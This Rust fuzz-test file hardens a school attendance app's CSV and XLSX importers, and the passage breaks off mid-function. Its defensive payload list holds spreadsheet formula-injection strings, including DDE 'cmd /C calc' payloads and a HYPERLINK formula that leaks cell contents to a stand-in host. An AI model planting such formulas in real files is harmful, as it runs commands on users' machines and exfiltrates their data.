//! Hostile input: a deterministic, seeded fuzz run over every importer (the five CSV
//! layouts, the DfE weekly file among them, and XLSX). Each case is a seed file put through random mutators (random
//! bytes, truncation, byte flips, inserts and deletes, duplicated and removed lines,
//! huge fields, very many columns, wrong encodings, formula-like cells, impossible
//! totals, dates out of range, broken workbook XML) and read with
//! [`tsm_desk::import::read_bytes`] inside `catch_unwind`. No case may panic (on any
//! thread); an error must name the file and stay short; a formula-like cell is never
//! read into a batch; and a sample of cases is stored, checking a failed store leaves
//! the database as it was.
//!
//! `TSM_FUZZ_CASES=100000` sets the number of cases per importer (default
//! [`DEFAULT_CASES`]); `TSM_FUZZ_SEED` changes the seed; `TSM_FUZZ_REPLAY=importer:case`
//! runs one case and prints what it was. Run with `--nocapture` to see the summary.
#![allow(clippy::unwrap_used, reason = "test code may panic")]
#![allow(clippy::expect_used, reason = "test code may panic")]

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::panic::{AssertUnwindSafe, catch_unwind};
use std::sync::Mutex;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Instant;
use tsm_desk::domain::{BatchContent, ImportBatch, Layout, Period, Term, Upn};
use tsm_desk::import::{ColumnMapping, read_bytes};
use tsm_desk::store::{ImportOptions, Store};

/// The DfE weekly pupil-level file's published columns.
const DFE_HEADER: [&str; 38] = [
    "academic_term",
    "UPN",
    "DOB",
    "sex",
    "ethnicity",
    "english_additional_language",
    "compulsory_school_age",
    "sen_support",
    "free_school_meals",
    "education_health_care_plan",
    "primary_sen_type",
    "secondary_sen_type",
    "looked_after_child",
    "previously_looked_after_child",
    "child_in_need",
    "child_protection_plan",
    "persistently_absent",
    "severely_absent",
    "unique_reference_number",
    "year_group",
    "school_local_authority_ukprn",
    "school_local_authority_name",
    "home_local_authority_ukprn",
    "home_local_authority_name",
    "learning_provider-ukprn",
    "school_name",
    "phase",
    "pupil_surname",
    "pupil_forename",
    "admission_date",
    "leaving_date",
    "full_days_missed",
    "possible_sessions",
    "absent_sessions",
    "present_sessions",
    "approved_educational_activity_sessions",
    "authorised_absent_sessions",
    "unauthorised_absent_sessions",
];

/// Cases per importer in a plain `cargo test`.
const DEFAULT_CASES: usize = 1_500;
/// The default seed.
const DEFAULT_SEED: u64 = 0x5eed_f022;
/// The longest acceptable error message.
const MAX_MESSAGE: usize = 1_000;
/// The school every store is preloaded with.
const URN: &str = "100001";

/// Formula-like payloads; each has a marker that no real value contains, so the test
/// can tell whether one reached a batch.
const FORMULAS: [&str; 9] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.test/?leak=\"&A1,\"zq\")",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+2",
    "+1+2",
    "-2+3",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
];

// ---------------------------------------------------------------------------------
// Random numbers: the sample data's seeded generator (SplitMix64), with the draws the
// fuzzing uses.

/// The fuzzing's streams are the sample generator's, named apart by this first part.
const FUZZ: u64 = 0x7473_6D2D_6675_7A7A; // "tsm-fuzz"

#[derive(Clone)]
struct Rng(tsm_desk::sample::rng::Rng);

impl Rng {
    fn new(parts: &[u64]) -> Rng {
        let named: Vec<u64> = std::iter::once(FUZZ).chain(parts.iter().copied()).collect();
        Rng(tsm_desk::sample::rng::Rng::stream(&named))
    }
    fn next(&mut self) -> u64 {
        self.0.next_u64()
    }
    /// A number in `0..n` (0 when `n` is 0).
    fn below(&mut self, n: usize) -> usize {
        self.0.index(n)
    }
    fn range(&mut self, lo: usize, hi: usize) -> usize {
        lo + self.below(hi - lo + 1)
    }
    /// True one time in `n`.
    fn one_in(&mut self, n: usize) -> bool {
        self.below(n) == 0
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        self.0.pick(items)
    }
    fn byte(&mut self) -> u8 {
        self.next().to_le_bytes()[0]
    }
}

// ---------------------------------------------------------------------------------
// Seeds.

type Grid = Vec<Vec<String>>;

/// The importers under test.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Importer {
    Summary,
    MarksLong,
    MarksWide,
    Details,
    DfeWeekly,
    Xlsx,
}

const IMPORTERS: [Importer; 6] = [
    Importer::Summary,
    Importer::MarksLong,
    Importer::MarksWide,
    Importer::Details,
    Importer::DfeWeekly,
    Importer::Xlsx,
];

impl Importer {
    fn name(self) -> &'static str {
        match self {
            Importer::Summary => "summary",
            Importer::MarksLong => "marks_long",
            Importer::MarksWide => "marks_wide",
            Importer::Details => "details",
            Importer::DfeWeekly => "dfe_weekly",
            Importer::Xlsx => "xlsx",
        }
    }
}

const FORENAMES: [&str; 8] = [
    "Amira", "Joel", "Zoë", "Rory", "Siobhán", "Kai", "Maya", "Olu",
];
const SURNAMES: [&str; 8] = [
    "Testpupil",
    "O'Brien",
    "Begum",
    "Nguyễn",
    "Smith-Jones",
    "Asante",
    "Ćosić",
    "Clarke",
];
const CODES: [&str; 16] = [
    "/", "\\", "L", "I", "M", "N", "O", "U", "G", "#", "-", "", "B", "Y1", "H", "C2",
];

fn upn(i: usize) -> String {
    let rest = format!("8202001{:05}", 25000 + i);
    Upn::with_check_letter(&rest)
        .map(|u| u.as_str().to_owned())
        .unwrap_or_else(|| format!("A{rest}"))
}

fn row(cells: &[&str]) -> Vec<String> {
    cells.iter().map(|c| (*c).to_owned()).collect()
}

/// A small valid file of each layout, generated from `rng`.
fn synthetic(layout: Layout, rng: &mut Rng) -> Grid {
    let pupils = rng.range(1, 6);
    let mut g = Vec::new();
    match layout {
        Layout::Summary => {
            g.push(row(&[
                "UPN",
                "Legal Forename",
                "Legal Surname",
                "Year Group",
                "Possible Sessions",
                "Present",
                "Authorised Absences",
                "Unauthorised Absences",
                "Late Before Close",
                "Late After Close",
            ]));
            for p in 0..pupils {
                let possible = rng.range(0, 190);
                let present = rng.range(0, possible);
                let auth = rng.range(0, possible - present);
                let unauth = rng.range(0, possible - present - auth);
                g.push(vec![
                    upn(p),
                    rng.pick(&FORENAMES).to_string(),
                    rng.pick(&SURNAMES).to_string(),
                    format!("Y{}", rng.range(1, 11)),
                    possible.to_string(),
                    present.to_string(),
                    auth.to_string(),
                    unauth.to_string(),
                    rng.range(0, 5).to_string(),
                    rng.range(0, 3).to_string(),
                ]);
            }
        }
        Layout::MarksLong | Layout::MarksWide => {
            let long = layout == Layout::MarksLong;
            g.push(if long {
                row(&["UPN", "Forename", "Surname", "Date", "Session", "Mark"])
            } else {
                row(&["UPN", "Date", "AM Mark", "PM Mark", "Reg Group"])
            });
            let days = rng.range(1, 8);
            for p in 0..pupils {
                for d in 0..days {
                    let date = format!("{:02}/09/2025", d + 1);
                    if long {
                        for s in ["AM", "PM"] {
                            g.push(vec![
                                upn(p),
                                rng.pick(&FORENAMES).to_string(),
                                rng.pick(&SURNAMES).to_string(),
                                date.clone(),
                                s.to_owned(),
                                rng.pick(&CODES).to_string(),
                            ]);
                        }
                    } else {
                        g.push(vec![
                            upn(p),
                            date,
                            rng.pick(&CODES).to_string(),
                            rng.pick(&CODES).to_string(),
                            "7A".to_owned(),
                        ]);
                    }
                }
            }
        }
        Layout::DfeWeekly => {
            g.push(row(&DFE_HEADER));
            for p in 0..pupils {
                let possible = rng.range(0, 120);
                let aea = rng.range(0, possible.min(3));
                let auth = rng.range(0, possible - aea);
                let unauth = rng.range(0, possible - aea - auth);
                let present = possible - aea - auth - unauth;
                let flag = |rng: &mut Rng| rng.pick(&["yes", "no", "unknown"]).to_string();
                let urn = if p % 2 == 0 { URN } else { "100002" };
                let mut cells = vec![
                    rng.pick(&["2025/26 Autumn term", "Autumn 2025", "2025-26 autumn"])
                        .to_string(),
                    upn(p),
                    rng.pick(&["2014-03-14", "2012-01-31", ""]).to_string(),
                    rng.pick(&["F", "M"]).to_string(),
                    rng.pick(&["WBRI", "APKN", ""]).to_string(),
                ];
                for _ in 0..11 {
                    cells.push(flag(rng));
                }
                // primary_sen_type and secondary_sen_type sit inside the flags.
                cells[10] = rng.pick(&["ASD", "SEMH", ""]).to_string();
                cells[11] = String::new();
                cells.extend([
                    flag(rng),
                    flag(rng),
                    urn.to_owned(),
                    rng.pick(&["R", "3", "7", "11", "N1"]).to_string(),
                    "10000936".to_owned(),
                    "Countyshire".to_owned(),
                    "10000936".to_owned(),
                    rng.pick(&["Countyshire", "Westvale"]).to_string(),
                    "10070001".to_owned(),
                    format!("Fuzz School {urn}"),
                    rng.pick(&["Primary", "Secondary"]).to_string(),
                    rng.pick(&SURNAMES).to_string(),
                    rng.pick(&FORENAMES).to_string(),
                    rng.pick(&["2025-09-03", "2021-09-01"]).to_string(),
                    rng.pick(&["", "", "2025-10-10"]).to_string(),
                    format!("{:.1}", (auth + unauth) as f64 / 2.0),
                    possible.to_string(),
                    (auth + unauth).to_string(),
                    present.to_string(),
                    aea.to_string(),
                    auth.to_string(),
                    unauth.to_string(),
                ]);
                g.push(cells);
            }
        }
        Layout::Details => {
            g.push(row(&tsm_desk::sample::DETAILS_HEADER));
            for p in 0..pupils {
                g.push(vec![
                    upn(p),
                    rng.pick(&SURNAMES).to_string(),
                    rng.pick(&FORENAMES).to_string(),
                    rng.pick(&["R", "Y3", "7", "Year 11", "N1"]).to_string(),
                    rng.pick(&["7A", "Acorn", "10W"]).to_string(),
                    rng.pick(&["F", "M", "Female", ""]).to_string(),
                    rng.pick(&["14/03/2014", "2012-01-31", "3-Sep-2015", ""])
                        .to_string(),
                    rng.pick(&["N", "K", "E"]).to_string(),
                    rng.pick(&["Y", "N"]).to_string(),
                    rng.pick(&["Y", "N"]).to_string(),
                    "N".to_owned(),
                    "N".to_owned(),
                    rng.pick(&["WBRI", "APKN", ""]).to_string(),
                ]);
            }
        }
    }
    g
}

/// The first lines of the stored sample and fixture files, as grids, by layout.
fn file_seeds() -> Vec<(Layout, Grid)> {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let files = [
        (
            "sample_data/oakfield_2025-26_summer_summary.csv",
            Layout::Summary,
        ),
        (
            "sample_data/meadowbank_2025-26_summer_summary.csv",
            Layout::Summary,
        ),
        ("tests/fixtures/previous_summary.csv", Layout::Summary),
        (
            "sample_data/oakfield_2026-27_autumn_marks.csv",
            Layout::MarksLong,
        ),
        (
            "sample_data/riverside_2026-27_autumn_marks.csv",
            Layout::MarksLong,
        ),
        (
            "sample_data/meadowbank_2026-27_autumn_marks.tsv",
            Layout::MarksWide,
        ),
        ("tests/fixtures/autumn_wide.csv", Layout::MarksWide),
        ("sample_data/oakfield_pupil_details.csv", Layout::Details),
        ("sample_data/riverside_pupil_details.csv", Layout::Details),
        ("tests/fixtures/details.csv", Layout::Details),
        ("tests/fixtures/dfe_weekly_week1.csv", Layout::DfeWeekly),
    ];
    let mut out = Vec::new();
    for (path, layout) in files {
        let bytes = std::fs::read(root.join(path)).unwrap();
        let text = String::from_utf8_lossy(&bytes);
        let text = text.trim_start_matches('\u{feff}');
        let delimiter = if path.ends_with(".tsv") {
            '\t'
        } else if text.lines().next().is_some_and(|l| l.contains(';')) {
            ';'
        } else {
            ','
        };
        let grid: Grid = text
            .lines()
            .take(30)
            .map(|l| l.split(delimiter).map(str::to_owned).collect())
            .collect();
        out.push((layout, grid));
    }
    out
}

fn layout_of(importer: Importer, rng: &mut Rng) -> Layout {
    match importer {
        Importer::Summary => Layout::Summary,
        Importer::MarksLong => Layout::MarksLong,
        Importer::MarksWide => Layout::MarksWide,
        Importer::Details => Layout::Details,
        Importer::DfeWeekly => Layout::DfeWeekly,
        Importer::Xlsx => *rng.pick(&[
            Layout::Summary,
            Layout::MarksLong,
            Layout::MarksWide,
            Layout::Details,
            Layout::DfeWeekly,
        ]),
    }
}

fn seed_grid(layout: Layout, files: &[(Layout, Grid)], rng: &mut Rng) -> Grid {
    if rng.one_in(3) {
        let of_layout: Vec<&Grid> = files
            .iter()
            .filter(|(l, _)| *l == layout)
            .map(|(_, g)| g)
            .collect();
        (*rng.pick(&of_layout)).clone()
    } else {
        synthetic(layout, rng)
    }
}

// ---------------------------------------------------------------------------------
// Mutators on the grid of cells.

/// What a case did, for the replay message.
#[derive(Default)]
struct Story(Vec<String>);

impl Story {
    fn add(&mut self, s: impl Into<String>) {
        self.0.push(s.into());
    }
}

fn huge_text(rng: &mut Rng, len: usize) -> String {
    let unit = *rng.pick(&["A", "é", "🙂", "1", "Zoë ", "x,y", "/"]);
    let mut s = unit.repeat(len / unit.len() + 1);
    while s.len() > len {
        s.pop();
    }
    s
}

/// Sets a cell, widening the row if needed.
fn set_cell(g: &mut Grid, r: usize, c: usize, v: String) {
    let row = &mut g[r];
    if row.len() <= c {
        row.resize(c + 1, String::new());
    }
    row[c] = v;
}

fn mutate_grid(g: &mut Grid, rng: &mut Rng, story: &mut Story) {
    if g.is_empty() {
        g.push(vec![String::new()]);
    }
    let rows = g.len();
    let r = rng.below(rows);
    let c = rng.below(g[r].len().max(1));
    let set = set_cell;
    match rng.below(22) {
        0..=2 => {
            // A formula in any cell, header row or body, often a body row.
            let r = if rows > 1 && !rng.one_in(8) {
                rng.range(1, rows - 1)
            } else {
                r
            };
            let f = (*rng.pick(&FORMULAS)).to_owned();
            story.add(format!("formula at r{r} c{c}"));
            set(g, r, c, f);
        }
        3 => {
            // A huge field: rarely megabytes, usually kilobytes.
            let len = if rng.one_in(40) {
                rng.range(1 << 20, 5 << 20)
            } else {
                rng.range(1_000, 100_000)
            };
            story.add(format!("huge field {len} bytes at r{r} c{c}"));
            set(g, r, c, huge_text(rng, len));
        }
        4 => {
            // Very many columns on one row.
            let n = if rng.one_in(10) {
                rng.range(10_000, 60_000)
            } else {
                rng.range(50, 2_000)
            };
            // Kept to at most 4 million cells in all, or the harness itself would
            // build multi-gigabyte files (the importer refuses files over 256 MB).
            let cells: usize = g.iter().map(Vec::len).sum();
            let n = n.min(4_000_000usize.saturating_sub(cells));
            story.add(format!("{n} extra columns on r{r}"));
            for i in 0..n {
                g[r].push(if rng.one_in(3) {
                    format!("Col{i}")
                } else {
                    String::new()
                });
            }
        }
        5 => {
            let n = rng.range(1, 4);
            story.add(format!("duplicate {n} lines from r{r}"));
            let copy: Vec<Vec<String>> = g[r..(r + n).min(rows)].to_vec();
            let at = rng.below(g.len() + 1);
            for (k, line) in copy.into_iter().enumerate() {
                g.insert(at + k, line);
            }
        }
        6 => {
            story.add(format!("remove line r{r}"));
            g.remove(r);
        }
        7 => {
            let r2 = rng.below(rows);
            story.add(format!("swap lines r{r} r{r2}"));
            g.swap(r, r2);
        }
        8 => {
            story.add(format!("remove column c{c}"));
            for line in g.iter_mut() {
                if c < line.len() {
                    line.remove(c);
                }
            }
        }
        9 => {
            // Impossible totals and bad counts, in a body row.
            let v = (*rng.pick(&[
                "999999",
                "4294967295",
                "4294967296",
                "99999999999999999999",
                "-1",
                "+5",
                "1.5",
                "12.0",
                "1e3",
                "0x10",
                " 7 ",
                "NaN",
                "∞",
                "٣",
            ]))
            .to_owned();
            let r = rng.range(usize::from(rows > 1), rows - 1);
            story.add(format!("count {v:?} at r{r} c{c}"));
            set(g, r, c, v);
        }
        10 => {
            let v = (*rng.pick(&[
                "01/01/0000",
                "31/12/9999",
                "0001-01-01",
                "9999-12-31",
                "29/02/2025",
                "29/02/2024",
                "00/00/0000",
                "32/01/2025",
                "1/1/99999",
                "1066-10-14",
                "31-Dec-9999",
                "1-Jan-0000",
                "2025-09-03T25:61:61",
                "262143-12-31",
                "-2025-09-01",
            ]))
            .to_owned();
            let r = rng.range(usize::from(rows > 1), rows - 1);
            story.add(format!("date {v:?} at r{r} c{c}"));
            set(g, r, c, v);
        }
        11 => {
            // Odd text: quotes, delimiters, newlines, controls, unusual Unicode.
            let v = (*rng.pick(&[
                "\"",
                "a\"b",
                "\"unclosed",
                "a,b",
                "a;b",
                "a\tb",
                "line\nbreak",
                "cr\rcr",
                "\u{0}",
                "\u{85}",
                "\u{2028}",
                "\u{feff}",
                "\u{202e}evil",
                "e\u{301}",
                "𝕌ℙℕ",
                "\u{7f}",
                "   ",
            ]))
            .to_owned();
            story.add(format!("odd text {v:?} at r{r} c{c}"));
            set(g, r, c, v);
        }
        12 => {
            // Random ASCII junk in one cell.
            let len = rng.range(0, 30);
            let v: String = (0..len)
                .map(|_| char::from(rng.range(32, 126) as u8))
                .collect();
            story.add(format!("junk {v:?} at r{r} c{c}"));
            set(g, r, c, v);
        }
        13 => {
            story.add("header cells shuffled");
            let h = &mut g[0];
            for i in (1..h.len()).rev() {
                let j = rng.below(i + 1);
                h.swap(i, j);
            }
        }
        14 => {
            story.add("title rows before the header");
            let n = rng.range(1, 12);
            for _ in 0..n {
                g.insert(0, vec![format!("Report {}", rng.below(100))]);
            }
        }
        15 => {
            story.add("header only");
            g.truncate(1);
        }
        16 => {
            // A bad mark or session or UPN.
            let v = (*rng.pick(&[
                "ZZ",
                "Y8",
                "//",
                "pm",
                "Am",
                "AM/PM",
                "X",
                "x",
                "#",
                "-",
                "--",
                "+",
                "=",
                "@",
                "A00000000000",
                "a820200125001",
                "G82020012500",
                "G8202001250011",
            ]))
            .to_owned();
            let r = rng.range(usize::from(rows > 1), rows - 1);
            story.add(format!("value {v:?} at r{r} c{c}"));
            set(g, r, c, v);
        }
        17 => {
            // Many rows: the same pupil repeated (conflicting or repeated marks).
            if rows > 1 {
                let n = rng.range(10, 400);
                story.add(format!("repeat r{} {n} times", rows - 1));
                let last = g[rows - 1].clone();
                for _ in 0..n {
                    g.push(last.clone());
                }
            }
        }
        18 => {
            story.add("blank lines");
            let at = rng.below(g.len() + 1);
            g.insert(at, Vec::new());
            g.insert(at, vec![String::new(); 3]);
        }
        19 => {
            // A formula in every cell of one column.
            let f = (*rng.pick(&FORMULAS)).to_owned();
            story.add(format!("formula in all of c{c}"));
            for r in 1..rows {
                set(g, r, c, f.clone());
            }
        }
        20 => {
            // Empty a cell.
            story.add(format!("empty r{r} c{c}"));
            set(g, r, c, String::new());
        }
        _ => {
            // A big file: many rows (the two-thread path starts at 1 MiB).
            if rows > 1 && rng.one_in(20) {
                let n = rng.range(20_000, 60_000);
                // At most 4 million cells in all (see the extra columns above).
                let cells: usize = g.iter().map(Vec::len).sum();
                let widest = g[1..].iter().map(Vec::len).max().unwrap_or(1).max(1);
                let body_bytes: usize = g[1..].iter().flatten().map(String::len).sum();
                let per_row = (body_bytes / (g.len() - 1)).max(1);
                // ...and at most about 200 MB of text.
                let n = n
                    .min(4_000_000usize.saturating_sub(cells) / widest)
                    .min((200 << 20) / per_row);
                story.add(format!("{n} more rows"));
                let body: Vec<Vec<String>> = g[1..].to_vec();
                for i in 0..n {
                    g.push(body[i % body.len()].clone());
                }
            } else {
                story.add("nothing");
            }
        }
    }
}

// ---------------------------------------------------------------------------------
// Serialising and encoding.

fn to_csv(g: &Grid, rng: &mut Rng, story: &mut Story) -> String {
    let delimiter = *rng.pick(&[',', ',', ',', '\t', ';']);
    let quote_all = rng.one_in(4);
    let crlf = rng.one_in(3);
    story.add(format!(
        "delimiter {delimiter:?} quote_all {quote_all} crlf {crlf}"
    ));
    let mut out = String::new();
    for line in g {
        for (i, cell) in line.iter().enumerate() {
            if i > 0 {
                out.push(delimiter);
            }
            let needs = cell.contains([delimiter, '"', '\n', '\r']);
            if quote_all || (needs && !rng.one_in(10)) {
                out.push('"');
                out.push_str(&cell.replace('"', "\"\""));
                out.push('"');
            } else {
                out.push_str(cell);
            }
        }
        out.push_str(if crlf { "\r\n" } else { "\n" });
    }
    out
}

fn encode(text: &str, rng: &mut Rng, story: &mut Story) -> Vec<u8> {
    match rng.below(30) {
        0 => {
            story.add("UTF-8 BOM");
            let mut b = vec![0xEF, 0xBB, 0xBF];
            b.extend_from_slice(text.as_bytes());
            b
        }
        1 => {
            story.add("UTF-16LE BOM");
            let mut b = vec![0xFF, 0xFE];
            b.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
            b
        }
        2 => {
            story.add("UTF-16BE BOM");
            let mut b = vec![0xFE, 0xFF];
            b.extend(text.encode_utf16().flat_map(u16::to_be_bytes));
            b
        }
        3 => {
            story.add("UTF-16LE without BOM");
            text.encode_utf16().flat_map(u16::to_le_bytes).collect()
        }
        4 => {
            story.add("UTF-16BE without BOM");
            text.encode_utf16().flat_map(u16::to_be_bytes).collect()
        }
        5 | 6 => {
            story.add("Windows-1252");
            text.chars()
                .map(|c| match c {
                    'ë' => 0xEB,
                    'á' => 0xE1,
                    'é' => 0xE9,
                    '’' => 0x92,
                    '–' => 0x96,
                    c if c.is_ascii() => c as u8,
                    _ => 0x81,
                })
                .collect()
        }
        7 => {
            story.add("invalid UTF-8 inserted");
            let mut b = text.as_bytes().to_vec();
            const BAD: [&[u8]; 6] = [
                &[0xC3],
                &[0xE2, 0x82],
                &[0xF0, 0x9F, 0x99],
                &[0xFF],
                &[0xC0, 0xAF],
                &[0xED, 0xA0, 0x80],
            ];
            let seq = BAD[rng.below(BAD.len())];
            let at = rng.below(b.len() + 1);
            b.splice(at..at, seq.iter().copied());
            b
        }
        8 => {
            story.add("NUL bytes");
            let mut b = text.as_bytes().to_vec();
            let at = rng.below(b.len() + 1);
            b.insert(at, 0);
            b
        }
        _ => text.as_bytes().to_vec(),
    }
}

/// Byte-level mutations, applied after encoding.
fn mutate_bytes(b: &mut Vec<u8>, rng: &mut Rng, story: &mut Story) {
    let len = b.len();
    match rng.below(9) {
        0 => {
            // Truncation at every kind of point: anywhere, at a line end, mid
            // character, inside the first bytes.
            let at = match rng.below(4) {
                0 => rng.below(len + 1),
                1 => b
                    .iter()
                    .enumerate()
                    .filter(|(_, x)| **x == b'\n')
                    .map(|(i, _)| i + 1)
                    .nth(rng.below(8))
                    .unwrap_or(len),
                2 => b.iter().position(|&x| x >= 0x80).map_or(len / 2, |i| i + 1),
                _ => rng.below(len.min(16) + 1),
            };
            story.add(format!("truncate at {at} of {len}"));
            b.truncate(at);
        }
        1 => {
            let n = rng.range(1, 8);
            story.add(format!("{n} bit flips"));
            for _ in 0..n {
                if !b.is_empty() {
                    let i = rng.below(b.len());
                    b[i] ^= 1 << rng.below(8);
                }
            }
        }
        2 => {
            let n = rng.range(1, 8);
            story.add(format!("{n} random bytes set"));
            for _ in 0..n {
                if !b.is_empty() {
                    let i = rng.below(b.len());
                    b[i] = rng.byte();
                }
            }
        }
        3 => {
            let n = rng.range(1, 64);
            let at = rng.below(len + 1);
            story.add(format!("insert {n} random bytes at {at}"));
            let bytes: Vec<u8> = (0..n).map(|_| rng.byte()).collect();
            b.splice(at..at, bytes);
        }
        4 => {
            let at = rng.below(len + 1);
            let n = rng.below(len - at + 1).min(256);
            story.add(format!("delete {n} bytes at {at}"));
            b.drain(at..at + n);
        }
        5 => {
            let at = rng.below(len + 1);
            let n = rng.below(len - at + 1).min(512);
            let to = rng.below(len + 1);
            story.add(format!("copy {n} bytes from {at} to {to}"));
            let chunk = b[at..at + n].to_vec();
            b.splice(to..to, chunk);
        }
        6 => {
            let at = rng.below(len + 1);
            let v = *rng.pick(&[b'"', b'\n', b'\r', b',', b'\t', b';', 0, 0x7F, 0xC2, b'=']);
            story.add(format!("insert byte {v:#x} at {at}"));
            b.insert(at, v);
        }
        7 => {
            story.add("whole file random bytes");
            let n = rng.range(0, 4096);
            *b = (0..n).map(|_| rng.byte()).collect();
        }
        _ => {
            story.add("random ASCII file");
            let n = rng.range(0, 2048);
            *b = (0..n)
                .map(|_| *rng.pick(b"UPN,Date,AM Mark,Session,\n\r\"/\\0123456789-=+@ abc;\t"))
                .collect();
        }
    }
}

// ---------------------------------------------------------------------------------
// XLSX: through rust_xlsxwriter, and hand-made workbooks whose sheet XML is mutated
// (stored, not compressed, with correct CRCs so the XML itself reaches the parser).

fn to_xlsx(g: &Grid, rng: &mut Rng, story: &mut Story) -> Vec<u8> {
    use rust_xlsxwriter::{ExcelDateTime, Formula, Workbook};
    let mut wb = Workbook::new();
    let ws = wb.add_worksheet();
    let offset_r = if rng.one_in(8) { rng.range(1, 5) } else { 0 };
    let offset_c = if rng.one_in(8) { rng.range(1, 5) } else { 0 };
    if offset_r + offset_c > 0 {
        story.add(format!("sheet offset r{offset_r} c{offset_c}"));
    }
    let formula_cell = rng.one_in(5);
    for (r, line) in g.iter().enumerate().take(1_048_000) {
        for (c, cell) in line.iter().enumerate().take(16_000) {
            let (rr, cc) = ((r + offset_r) as u32, (c + offset_c) as u16);
            if cell.is_empty() {
                continue;
            }
            // A real formula where the text looks like one, sometimes.
            if formula_cell && cell.starts_with('=') {
                ws.write_formula(rr, cc, Formula::new(cell.as_str()))
                    .unwrap();
                continue;
            }
            if let Ok(n) = cell.parse::<f64>()
                && rng.one_in(2)
            {
                ws.write_number(rr, cc, n).unwrap();
                continue;
            }
            if let Some((d, m, y)) = dmy(cell)
                && rng.one_in(2)
                && let Ok(dt) = ExcelDateTime::from_ymd(y, m, d)
            {
                ws.write_datetime(rr, cc, &dt).unwrap();
                continue;
            }
            if cell.len() <= 32_767 {
                ws.write_string(rr, cc, cell).unwrap();
            }
        }
    }
    if rng.one_in(6) {
        // A real formula cell in the body, or one that returns an error.
        let r = rng.range(1, g.len().max(1)) as u32;
        let c = rng.below(6) as u16;
        let f = *rng.pick(&[
            "=cmd|' /C calc'!A0",
            "=1/0",
            "=\"=cmd|' /C calc'!A0\"",
            "=NA()",
            "=SUM(1,2)",
        ]);
        story.add(format!("real formula {f:?} at r{r} c{c}"));
        let formula = Formula::new(f);
        let formula = if rng.one_in(2) {
            formula.set_result("=cmd|' /C calc'!A0")
        } else {
            formula
        };
        ws.write_formula(r, c, formula).unwrap();
    }
    wb.save_to_buffer().unwrap()
}

fn dmy(s: &str) -> Option<(u8, u8, u16)> {
    let mut parts = s.split('/');
    let d = parts.next()?.parse().ok()?;
    let m = parts.next()?.parse().ok()?;
    let y = parts.next()?.parse().ok()?;
    parts.next().is_none().then_some((d, m, y))
}

fn crc32(data: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFFu32;
    for &b in data {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// A zip archive with the files stored (no compression).
fn stored_zip(files: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut central = Vec::new();
    for (name, data) in files {
        let offset = out.len() as u32;
        let crc = crc32(data);
        let size = data.len() as u32;
        let name_len = name.len() as u16;
        let mut header = Vec::new();
        header.extend_from_slice(&0x0403_4b50u32.to_le_bytes());
        header.extend_from_slice(&[20, 0, 0, 0, 0, 0, 0, 0, 0x21, 0]);
        header.extend_from_slice(&crc.to_le_bytes());
        header.extend_from_slice(&size.to_le_bytes());
        header.extend_from_slice(&size.to_le_bytes());
        header.extend_from_slice(&name_len.to_le_bytes());
        header.extend_from_slice(&0u16.to_le_bytes());
        out.extend_from_slice(&header);
        out.extend_from_slice(name.as_bytes());
        out.extend_from_slice(data);
        central.extend_from_slice(&0x0201_4b50u32.to_le_bytes());
        central.extend_from_slice(&[20, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0x21, 0]);
        central.extend_from_slice(&crc.to_le_bytes());
        central.extend_from_slice(&size.to_le_bytes());
        central.extend_from_slice(&size.to_le_bytes());
        central.extend_from_slice(&name_len.to_le_bytes());
        central.extend_from_slice(&[0; 12]);
        central.extend_from_slice(&offset.to_le_bytes());
        central.extend_from_slice(name.as_bytes());
    }
    let cd_offset = out.len() as u32;
    let cd_size = central.len() as u32;
    out.extend_from_slice(&central);
    out.extend_from_slice(&0x0605_4b50u32.to_le_bytes());
    out.extend_from_slice(&[0; 4]);
    let n = files.len() as u16;
    out.extend_from_slice(&n.to_le_bytes());
    out.extend_from_slice(&n.to_le_bytes());
    out.extend_from_slice(&cd_size.to_le_bytes());
    out.extend_from_slice(&cd_offset.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out
}

fn xml_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

fn col_name(mut c: usize) -> String {
    let mut s = Vec::new();
    loop {
        s.push(b'A' + (c % 26) as u8);
        if c < 26 {
            break;
        }
        c = c / 26 - 1;
    }
    s.reverse();
    String::from_utf8(s).unwrap()
}

/// A workbook written by hand, with its sheet XML mutated.
fn hand_xlsx(g: &Grid, rng: &mut Rng, story: &mut Story) -> Vec<u8> {
    let mut rows = String::new();
    for (r, line) in g.iter().enumerate().take(2_000) {
        let _ = write!(rows, "<row r=\"{}\">", r + 1);
        for (c, cell) in line.iter().enumerate().take(200) {
            let at = format!("{}{}", col_name(c), r + 1);
            if cell.parse::<f64>().is_ok() && !cell.contains(['n', 'N', 'i', 'I']) {
                let _ = write!(rows, "<c r=\"{at}\"><v>{}</v></c>", xml_escape(cell));
            } else {
                let _ = write!(
                    rows,
                    "<c r=\"{at}\" t=\"inlineStr\"><is><t>{}</t></is></c>",
                    xml_escape(cell)
                );
            }
        }
        rows.push_str("</row>");
    }
    let mut extra = String::new();
    let n = rng.range(0, 2);
    for _ in 0..n {
        let piece = match rng.below(12) {
            0 => "<row r=\"1048576\"><c r=\"XFD1048576\" t=\"inlineStr\"><is><t>x</t></is></c></row>".to_owned(),
            1 => "<row r=\"5\"><c r=\"XFD5\"><v>1</v></c></row>".to_owned(),
            2 => "<row r=\"7\"><c r=\"AAAAAAAAAAAA7\"><v>1</v></c></row>".to_owned(),
            3 => "<row r=\"99999999999\"><c r=\"A99999999999\"><v>1</v></c></row>".to_owned(),
            4 => "<row r=\"3\"><c r=\"B3\" t=\"s\"><v>999999</v></c></row>".to_owned(),
